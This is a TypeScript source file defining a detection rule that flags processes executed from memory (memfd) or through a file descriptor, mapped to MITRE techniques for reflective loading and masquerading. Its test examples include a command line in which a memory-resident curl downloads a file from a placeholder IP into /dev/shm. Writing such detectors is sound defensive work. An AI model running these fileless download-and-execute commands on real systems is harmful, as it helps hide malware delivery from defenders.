import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';

/** Runs from memory or through a descriptor. */
export const locMemfd: Indicator = {
  id: 'loc_memfd',
  points: 60,
  hard: true,
  mitre: ['T1620', 'T1036'],
  title: 'Executed from memory',
  description:
    'The executed file lies in memory only (memfd) or was executed through a descriptor, so that no path leads to it.',
  evaluate({ files, process }) {
    const file = files.find((entry) =>
      entry.location.classes.some((name) => name === 'memfd' || name === 'descriptor'),
    );
    if (!file && !process.file?.memfd) return undefined;
    const path = file?.path ?? process.binary ?? 'memfd';
    return {
      evidence: short(path),
      why: `the executed file (${short(path)}) lies in memory only or was run through a descriptor; no image file runs like that`,
    };
  },
  examples: {
    fires: [
      {
        run: '/proc/self/fd/5 -s http://203.0.113.9/a -o /dev/shm/a',
        exe: '/memfd:x',
        argv0: 'curl',
        file: { memfd: true },
      },
    ],
    silent: [{ run: 'curl -s http://203.0.113.9/a' }, { run: 'bash /dev/fd/63' }],
  },
};
